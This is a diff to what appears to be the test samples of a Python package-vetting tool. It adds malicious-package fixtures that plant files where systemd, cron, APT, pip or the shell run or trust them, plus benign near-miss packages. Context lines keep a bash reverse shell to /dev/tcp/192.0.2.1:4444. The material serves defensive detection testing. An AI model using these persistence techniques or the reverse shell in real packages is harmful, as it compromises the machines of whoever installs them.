@@ -3,7 +3,8 @@ so a data-flow pass over ``.py`` files does not see it: a dependency fetched fro
 named like a popular project wherever a build or pip reads it, a start-up module installed
 from a wheel's ``.data/purelib``, a ``.pth`` folder outside site-packages, a checked ``.pyc``
 that Python loads in place of its source, and download-and-run scripts installed as
-commands in the shapes PowerShell, Windows' tools, VBScript and ``sh`` write them.
+commands in the shapes PowerShell, Windows' tools, VBScript and ``sh`` write them, and files
+installed under the prefix where systemd, cron, APT, the shell or pip run or trust them.
 
 Each sample is inert (vetting only reads files; hosts are ``example.invalid``). The
 near-misses are what real packages ship: dependencies with markers, a ``.pth`` of their
@@ -191,9 +192,83 @@ HELD: dict[str, Sample] = {
     "reverse-shell-by-dev-tcp": command(
         "evcmd", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n"
     ),
+    # 7. Files installed under the prefix where the system, the shell or pip runs them.
+    "pip-conf-at-the-prefix": whl(
+        {
+            **INIT,
+            "evpkg-1.0.data/data/pip.conf": "[global]\nindex-url = https://example.invalid/simple\n",
+        }
+    ),
+    "systemd-generator": whl(
+        {
+            **INIT,
+            "evpkg-1.0.data/data/lib/systemd/system-generators/evgen": "#!/bin/sh\nev-agent &\n",
+        }
+    ),
+    "systemd-unit": whl(
+        {
+            **INIT,
+            "evpkg-1.0.data/data/lib/systemd/system/evpkg.service": "[Service]\nExecStart=ev\n",
+        }
+    ),
+    "apt-hook": whl(
+        {
+            **INIT,
+            "evpkg-1.0.data/data/etc/apt/apt.conf.d/99ev": 'DPkg::Post-Invoke {"ev-agent";};\n',
+        }
+    ),
+    "module-into-the-prefixs-standard-library": whl(
+        {**INIT, "evpkg-1.0.data/data/lib/python3.11/os.py": "import sys\n"}
+    ),
+    "sitecustomize-into-site-packages-through-data": whl(
+        {**INIT, "evpkg-1.0.data/data/lib/python3.12/site-packages/sitecustomize.py": "import os\n"}
+    ),
+    "environment-activate-script-replaced": whl(
+        {**INIT, "evpkg-1.0.data/scripts/activate": "ev-agent &\n"}
+    ),
+    "cron-table-in-setup-py-data-files": tgz(
+        {
+            "setup.py": SETUP.format("data_files=[('/etc/cron.d', ['evpkg.cron'])]"),
+            "evpkg.cron": "* * * * * root ev-agent\n",
+        }
+    ),
+    "systemd-unit-in-setup-cfg-data-files": tgz(
+        {
+            "setup.cfg": "[options.data_files]\nlib/systemd/system = evpkg.service\n",
+            "setup.py": "from setuptools import setup\nsetup()\n",
+            "evpkg.service": "[Service]\n",
+        }
+    ),
+    "pip-conf-in-pyproject-data-files": tgz(
+        {
+            "pyproject.toml": PYPROJECT + "[tool.setuptools.data-files]\n'.' = ['pip.conf']\n",
+            "pip.conf": "[global]\nindex-url = https://example.invalid/simple\n",
+        }
+    ),
 }
 
 ALLOWED: dict[str, Sample] = {
+    "manual-page-in-share": whl({**INIT, "evpkg-1.0.data/data/share/man/man1/ev.1": ".TH EV 1\n"}),
+    "jupyter-config-and-kernel": whl(
+        {
+            **INIT,
+            "evpkg-1.0.data/data/etc/jupyter/jupyter_server_config.d/evpkg.json": "{}\n",
+            "evpkg-1.0.data/data/share/jupyter/kernels/ev/kernel.json": "{}\n",
+        }
+    ),
+    "command-named-like-activate-but-longer": whl(
+        {
+            **INIT,
+            "evpkg-1.0.data/scripts/activate-global-python-argcomplete": "#!python\nprint(1)\n",
+        }
+    ),
+    "data-files-into-share-and-a-relative-etc": tgz(
+        {
+            "setup.py": SETUP.format(
+                "data_files=[('share/applications', ['ev.desktop']), ('etc/evpkg', ['ev.conf'])]"
+            )
+        }
+    ),
     "dependency-with-an-environment-marker": whl(
         INIT, "Requires-Dist: evdep>=1.0 ; python_version < '3.9' and extra == 'fast'\n"
     ),
